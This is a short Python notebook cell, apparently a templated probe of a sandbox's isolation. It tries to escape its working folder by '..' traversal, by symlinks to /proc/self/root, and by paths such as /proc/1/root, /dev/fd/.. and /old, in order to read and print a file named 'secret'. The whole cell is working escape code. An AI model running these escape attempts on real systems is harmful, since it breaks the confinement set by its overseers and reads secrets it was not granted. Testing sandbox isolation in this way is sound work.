# %% [markdown]
# Climbs up by "..", symbolic links and /proc/self/root to whatever lies above its working folder.

# %% last
import os

for name in ("up", "root"):
    try:
        os.symlink({"up": "../../../../../.." + __CLASSROOM__, "root": "/proc/self/root"}[name], name)
    except OSError:
        continue
for path in ("../../../../../.." + __CLASSROOM__ + "/secret", "up/secret", "root" + __CLASSROOM__ + "/secret",
             "/proc/1/root" + __CLASSROOM__ + "/secret", "/proc/self/cwd/../secret", "/proc/thread-self/root/secret",
             "/proc/1/cwd/secret", "/dev/fd/../../../secret", "/old/secret", "/old" + __CLASSROOM__ + "/secret"):
    try:
        with open(path) as file:
            print("GOT:", path, file.read())
    except OSError:
        continue
